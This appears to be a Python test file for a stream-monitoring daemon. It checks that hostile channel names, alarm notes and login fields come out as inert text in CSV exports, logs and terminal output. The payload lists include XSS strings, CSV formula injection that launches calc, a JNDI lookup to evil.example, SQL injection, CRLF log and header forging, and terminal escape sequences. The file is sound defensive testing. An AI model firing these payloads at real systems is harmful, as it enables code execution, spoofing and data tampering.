"""Fault row 62 at the real gantryd: names from a list, from a stream's tables in every encoding that DVB knows, from people and from
browsers; what of them stands in CSV, in the log, on a terminal. Messages: hostile-texts; the dashboard: tests/browser/hostile-text."""
import csv
import io
import json
import pathlib
import re
import socket
import struct
import threading
import time
import unittest

from gantryd_box import PASSWORD, Box, free_port, wait_for

UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
FORMULA = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
NAMES = [
    '<img src=x onerror="alert(1)">', "</script><script>alert(1)</script>", "javascript:alert(1)", "\u202egnp.exe\u2066", "=cmd|' /C calc'!A0",
    "+1+cmd", "-2+3", "@SUM(A1:A9)", "<!channel> <!here>", "<https://evil.example|Open>", "[click](https://evil.example) *b* `x`",
    "a\r\nBcc: victim@example.com", "a\nforged: sshd[1]: Accepted password for root", "\x1b]0;pwned\x07\x1b[2Jcleared", "x\u2028y\u2029z\u0085w",
    '"] [evil@1 a="b', "=?utf-8?B?SGVsbG8=?=", "'; DROP TABLE alarm; --", "{text} {?note}", "%n%s%x ${jndi:ldap://evil.example/a}", "\tTab; semicolon",
    "\ufeffmark", "A" * 120,
]
# As they stand in a descriptor: the byte that selects the table, and what it makes of the rest.
IN_TABLES = {
    "default": b"", "8859-5": b"\x01", "8859-7": b"\x03", "8859-9": b"\x05", "8859-15": b"\x0b", "8859-12, which is none": b"\x08", "any 8859": b"\x10\x00\x02",
    "a part that is none": b"\x10\x00\x0c", "UTF-16": b"\x11", "KS X 1001": b"\x12", "GB 2312": b"\x13", "Big5": b"\x14", "UTF-8": b"\x15",
    "encoding_type_id": b"\x1f\x01", "reserved": b"\x1e", "ISDB": b"\x0e",
}
PAYLOADS = [b"</td><script>alert(1)</script>", b"=cmd|' /C calc'", b"\x86bold\x87\x8aline", b"a\r\nforged: b\x1b[2J\x07", b"\xff\xfe\xc3(\xe0\x80\xd8\x00\xdc",
            b"\xe2\x80\xae\xe2\x80\xa8gnp", b" .\x20\x2e\x20\x28", bytes(range(0x80, 0xb0))]
DOCUMENTS = ("audit.csv", "channels.csv", "alarms.csv", "alarm-history.csv", "reports/availability.csv", "alarm-figures.csv")
SCREENS = (("channel", "list"), ("channel", "show", "h-12"), ("channel", "notes", "h-0"), ("channel", "inventory"), ("alarm", "list", "--all"),
           ("alarm", "csv"), ("audit", "list"), ("channel", "export"))


def crc32(data):
    crc = 0xffffffff
    for byte in data:
        crc ^= byte << 24
        for _ in range(8):
            crc = (crc << 1 ^ 0x04c11db7 if crc & 0x80000000 else crc << 1) & 0xffffffff
    return crc


def packet(pid, counter, table, rest):
    section = bytes([table]) + struct.pack(">H", 0xf000 | len(rest) + 4) + rest
    payload = b"\0" + section + struct.pack(">I", crc32(section))
    return (struct.pack(">BHB", 0x47, 0x4000 | pid, 0x10 | counter & 15) + payload).ljust(188, b"\xff")


def tables(counter, version, provider, name):
    descriptor = bytes([1, len(provider)]) + provider + bytes([len(name)]) + name
    service = struct.pack(">HBH", 1, 0xfc, 0x8000 | len(descriptor) + 2) + bytes([0x48, len(descriptor)]) + descriptor
    head = struct.pack(">HBBB", 1, 0xc1 | version % 32 << 1, 0, 0)
    plain = struct.pack(">HBBB", 1, 0xc1, 0, 0)
    return (packet(0, counter, 0, plain + b"\0\1\xe1\0") + packet(0x100, counter, 2, plain + b"\xff\xff\xf0\0")
            + packet(0x11, counter, 0x42, head + b"\0\1\xff" + service))


class Sender(threading.Thread):
    """A stream whose name is, every 200 ms, another text in another table; the last one stays."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port, self.stop, self.sent = port, threading.Event(), 0
        self.texts = [prefix + payload for prefix in IN_TABLES.values() for payload in PAYLOADS]

    def run(self):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
            counter = 0
            while not self.stop.wait(0.1):
                text = self.texts[min(counter // 2, len(self.texts) - 1)][:60]
                peer.sendto(tables(counter, counter // 2, b"\x15provider \xe2\x80\xae", text), ("127.0.0.1", self.port))
                counter += 1
                self.sent = counter // 2

    def done(self):
        return self.sent > len(self.texts)


class HostileBox(Box):
    """Channels h-0, h-1, ... whose names are the hostile ones; their ports are known."""
    ports = []

    def add_channel(self, name, group):
        out = io.StringIO()
        port = free_port()
        self.ports.append(port)
        text = NAMES[int(name.split("-")[1])]
        csv.writer(out).writerow([name, text, text[:5] + name[1:], text, f"udp://127.0.0.1:{port}", "lo", 0, ""])
        self.channels += out.getvalue()
        (self.folder / "channels.csv").write_text(self.channels, encoding="utf-8", newline="")


class HostileNames(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.box = HostileBox(channels=[(f"h-{i}", "") for i in range(len(NAMES))])
        cls.addClassCleanup(cls.box.end)
        cls.sender = Sender(cls.box.ports[0])
        cls.sender.start()
        cls.box.ask("POST", "/api/v1/users", {"name": "chief", "role": "admin", "password": PASSWORD, "must_change_password": False}, 201)
        cls.seen = set()

    @classmethod
    def tearDownClass(cls):
        cls.sender.stop.set()
        cls.sender.join()

    def alarms(self):
        return self.box.ask("GET", "/api/v1/alarms?state=all&limit=1000")["items"]

    def watch_names(self):
        self.seen.add(self.box.ask("GET", "/api/v1/channels/h-0")["service_name"])
        return self.sender.done()

    def test_row_62_a_name_of_any_table_is_a_line_of_text(self):
        wait_for("every text was sent", self.watch_names, 90)
        notes = json.dumps(self.box.ask("GET", "/api/v1/channels/h-0/notes"))
        for name in self.seen:
            self.assertNotRegex(name, UNSAFE)
            self.assertNotIn("\n", name)
        print(f"row 62: {len(self.sender.texts)} names in {len(IN_TABLES)} encodings were sent, {len(self.seen)} different ones seen, none with a control "
              f"character; {notes.count('script')} times a script in the notes, as text")
        self.assertGreater(len(self.seen), 5)  # a worker tells the name once a second

    def test_row_62_people_s_words_are_a_line_of_text(self):
        wait_for("alarms are there", lambda: len(self.alarms()) >= len(NAMES) // 2, 60)
        taken = 0
        for number, (text, alarm) in enumerate(zip(NAMES, self.alarms())):
            status = self.box.raw("POST", f"/api/v1/alarms/{alarm['id']}/comments", {"note": text})[0]
            taken += status == 200
            self.box.raw("POST", "/api/v1/login", {"user": "nobody", "password": text}, over="tcp",
                         headers={"User-Agent": UNSAFE.sub("?", text).replace("\n", "?").encode("ascii", "replace").decode(),
                                  "X-Forwarded-For": f"10.9.9.{number + 1}"})
        notes = [alarm["note"] for alarm in self.alarms() if alarm.get("note")]
        for text in notes:
            self.assertNotRegex(text, UNSAFE)
        print(f"row 62: {taken} hostile notes taken, {len(notes)} shown as a line of text")
        self.assertGreater(len(notes), 3)

    def test_row_62_no_cell_of_a_csv_is_a_formula_and_no_name_makes_a_row(self):
        wait_for("alarms are there", lambda: len(self.alarms()) >= len(NAMES) // 2, 60)
        cells = 0
        for document in DOCUMENTS:
            status, headers, body = self.box.raw("GET", f"/api/v1/{document}")
            if status == 503 and document in ("alarm-history.csv", "reports/availability.csv"):
                continue  # they need a database: services/reports
            self.assertEqual((status, headers["content-type"].split(";")[0]), (200, "text/csv"), document)
            rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
            self.assertEqual({len(row) for row in rows}, {len(rows[0])}, document)
            for cell in (cell for row in rows for cell in row):
                self.assertTrue(not FORMULA.match(cell) or NUMBER.fullmatch(cell), f"{document}: {cell!r}")
                self.assertNotRegex(cell, UNSAFE, document)
                cells += 1
        print(f"row 62: {cells} cells of {len(DOCUMENTS)} CSV documents, formulas 0")

    def test_row_62_nothing_steers_a_terminal_or_forges_a_line(self):
        wait_for("alarms are there", lambda: len(self.alarms()) >= len(NAMES) // 2, 60)
        lines = 0
        for words in SCREENS:
            done = self.box.ctl(*words)
            self.assertEqual(done.returncode, 0, (words, done.stderr))
            for line in done.stdout.splitlines() if words[-1] not in ("csv", "export") else done.stdout.split("\r\n"):
                self.assertNotRegex(line.replace("\r", ""), UNSAFE, words)
                self.assertFalse(line.startswith(("forged", "Bcc")), (words, line))
                lines += 1
        log = (pathlib.Path(self.box.folder) / "log.txt").read_text(encoding="utf-8", errors="surrogateescape")
        for line in log.split("\n"):
            self.assertNotRegex(line, UNSAFE)
            self.assertFalse(line.startswith(("forged", "Bcc")), line)
        print(f"row 62: {lines} lines on the terminal and {log.count(chr(10))} of the log: control characters 0, forged lines 0")
        self.assertGreater(log.count("\n"), 20)


if __name__ == "__main__":
    unittest.main()
